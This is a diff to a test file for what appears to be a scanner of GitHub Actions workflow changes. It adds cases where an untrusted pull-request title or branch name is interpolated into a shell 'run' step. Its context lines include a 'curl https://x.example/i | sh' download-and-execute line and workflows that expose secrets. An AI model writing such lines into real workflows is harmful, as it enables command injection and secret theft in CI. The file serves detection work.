@@ -49,6 +49,12 @@ jobs:
 `,
     gains: [
       ["- run: npm test", "- run: curl https://x.example/i | sh", ["program 20"]],
+      ["- run: npm test", '- run: npm test "${{ github.event.pull_request.title }}"', ["written_by_strangers 20"]],
+      [
+        "- run: npm test",
+        "- run: |\n          npm test\n          echo ${{ github.head_ref }}",
+        ["written_by_strangers 22"],
+      ],
       ["- run: npm test", '- run: npm test\n        env: { A: "${{ secrets.A }}" }', ["secret 21"]],
       ["- run: npm test", '- run: npm test\n        env: { A: "${{ secrets.NPM }}" }', ["secret 21"]],
       ["- run: npm test", '- run: npm test\n        env: { A: "${{ toJSON(secrets) }}" }', ["secret 21"]],
@@ -72,6 +78,8 @@ jobs:
       ],
     ],
     passes: [
+      ["- run: npm test", '- run: npm test\n        env: { TITLE: "${{ github.event.pull_request.title }}" }'],
+      ["- run: npm test", "- run: npm test ${{ github.event.pull_request.number }} ${{ github.ref_name }}"],
       ["node: [18, 20]", "node: [20, 22]"],
       ["node-version: 20", "node-version: 22"],
       ["timeout-minutes: 10", "timeout-minutes: 20"],
